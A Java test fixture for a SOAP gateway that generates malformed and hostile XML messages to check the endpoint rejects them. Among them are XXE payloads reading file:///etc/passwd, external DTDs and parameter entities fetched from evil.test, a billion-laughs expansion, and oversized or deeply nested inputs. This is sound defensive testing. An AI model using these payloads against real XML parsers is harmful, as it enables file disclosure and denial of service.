package dk.borgermaaling.gateway.edge.soap;

import java.util.function.Function;
import java.util.function.Supplier;

/** Not XML as we take it, or no envelope of the endpoint's SOAP version. */
final class MalformedRows extends Rows {
  MalformedRows(Supplier<TestToken> token, Function<TestToken, RawMessage> message) {
    super(token, message);
    String root = "<!DOCTYPE s:Envelope ";
    row("the other version of SOAP", RawMessage::otherSoap);
    tampered("not well-formed", xml -> xml.replace("</s:Body>", ""));
    tampered("empty", xml -> "");
    tampered("no XML", xml -> "{\"a\":1}");
    tampered("a DTD", xml -> root + "[]>" + xml);
    tampered("a DTD from outside", xml -> root + "SYSTEM \"http://evil.test/x.dtd\">" + xml);
    tampered(
        "an external entity",
        xml ->
            root
                + "[<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
                + xml.replace("6101901234", "&x;"));
    tampered("billion laughs", xml -> laughs(root) + xml.replace("6101901234", "&l9;"));
    tampered("an undeclared entity", xml -> xml.replace("6101901234", "&x;"));
    tampered("a processing instruction", xml -> xml.replace("<s:Body", "<?x y?><s:Body"));
    for (String name : new String[] {"NameID", "Audience", "AttributeValue", "wsa:To"}) {
      tampered(
          "a processing instruction in " + name,
          xml -> xml.replaceFirst("(<" + name + "[^>]*>[^<]{3})", "$1<?x?>"));
    }
    tampered("deep in the header", xml -> xml.replace("<wsa:ReplyTo", deep() + "<wsa:ReplyTo"));
    tampered(
        "an attribute of half a megabyte",
        xml -> xml.replace("<c:caseEvent>", "<c:caseEvent x=\"" + "x".repeat(1 << 19) + "\">"));
    tampered(
        "many namespaces",
        xml ->
            xml.replace(
                "<s:Header>",
                "<s:Header"
                    + attributes().replace(" a", " xmlns:a").replace("=\"\"", "=\"urn:x\"")
                    + ">"));
    tampered(
        "a few attributes on each of many elements",
        xml ->
            xml.replace(
                "<c:caseEvent>", "<x a='' b='' c='' d=''/>".repeat(6_000) + "<c:caseEvent>"));
    tampered("two envelopes", xml -> xml + xml);
    tampered("text after the envelope", xml -> xml + "x");
    tampered(
        "an attribute twice",
        xml -> xml.replaceFirst("wsu:Id=\"body\"", "wsu:Id=\"body\" wsu:Id=\"b\""));
    tampered(
        "a prefix that is not declared", xml -> xml.replaceFirst("<s:Body", "<nobody:x/><s:Body"));
    tampered("a character that XML has not", xml -> xml.replace("6101901234", "6101901234\u0001"));
    tampered("a reference to such a character", xml -> xml.replace("6101901234", "&#1;"));
    tampered(
        "a parameter entity",
        xml -> root + "[<!ENTITY % p SYSTEM \"http://evil.test/p\"> %p;]>" + xml);
    tampered("a DTD with an attribute list", xml -> root + "[<!ATTLIST x id ID #REQUIRED>]>" + xml);
    tampered("a catalogue", xml -> "<?oasis-xml-catalog catalog=\"http://evil.test/c\"?>" + xml);
    tampered("a style sheet", xml -> "<?xml-stylesheet href=\"http://evil.test/s\"?>" + xml);
    bytes("UTF-16", java.nio.charset.StandardCharsets.UTF_16);
    bytes("UTF-16 without a mark", java.nio.charset.StandardCharsets.UTF_16LE);
    bytes("UTF-32", java.nio.charset.Charset.forName("UTF-32"));
    rows.put("bytes that are no UTF-8", () -> broken(message.apply(token.get()).xml()));
    tampered("another encoding", xml -> "<?xml version='1.0' encoding='ISO-8859-1'?>" + xml);
    tampered("XML 1.1", xml -> "<?xml version='1.1'?>" + xml);
    tampered("deep", xml -> xml.replace("</c:registerC", "<a>".repeat(2000) + "</c:registerC"));
    tampered("many attributes", xml -> xml.replace("<s:Header>", "<s:Header" + attributes() + ">"));
    tampered(
        "many elements",
        xml -> xml.replace("<c:caseEvent>", "<x/>".repeat(60_000) + "<c:caseEvent>"));
  }

  private void bytes(String name, java.nio.charset.Charset charset) {
    rows.put(name, () -> message.apply(token.get()).xml().getBytes(charset));
  }

  private static byte[] broken(String xml) {
    byte[] bytes = xml.getBytes(java.nio.charset.StandardCharsets.UTF_8);
    bytes[xml.indexOf("6101901234")] = (byte) 0xFF;
    return bytes;
  }

  private static String deep() {
    return "<a xmlns=\"urn:x\">".repeat(500) + "</a>".repeat(500);
  }

  private static String laughs(String root) {
    StringBuilder dtd = new StringBuilder(root + "[<!ENTITY l0 \"ha\">");
    for (int i = 1; i < 10; i++) {
      dtd.append("<!ENTITY l").append(i).append(" \"");
      dtd.append(("&l" + (i - 1) + ";").repeat(10)).append("\">");
    }
    return dtd + "]>";
  }

  private static String attributes() {
    StringBuilder text = new StringBuilder();
    for (int i = 0; i < 5000; i++) {
      text.append(" a").append(i).append("=\"\"");
    }
    return text.toString();
  }
}
